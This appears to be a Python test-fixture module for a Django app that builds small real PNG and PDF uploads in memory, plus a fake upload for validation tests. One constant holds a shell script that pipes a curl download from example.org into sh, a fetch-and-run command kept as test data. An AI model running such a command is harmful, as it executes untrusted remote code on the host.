"""Small real documents (and fakes) for upload tests, made in memory."""

import io

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image


def image_bytes(kind: str = "PNG", size: tuple[int, int] = (40, 30)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "white").save(buffer, kind)
    return buffer.getvalue()


def pdf_bytes() -> bytes:
    """A real one-page PDF."""
    buffer = io.BytesIO()
    Image.new("RGB", (60, 40), "white").save(buffer, "PDF")
    return buffer.getvalue()


SCRIPT = b"#!/bin/sh\ncurl http://example.org/x | sh\n"


def upload(content: bytes, name: str, content_type: str = "application/pdf"):
    """A file as a browser sends it: the name and the content type are the sender's claim."""
    return SimpleUploadedFile(name, content, content_type=content_type)


def png_upload(name: str = "licence.png"):
    return upload(image_bytes("PNG"), name, "image/png")


def pdf_upload(name: str = "licence.pdf"):
    return upload(pdf_bytes(), name)
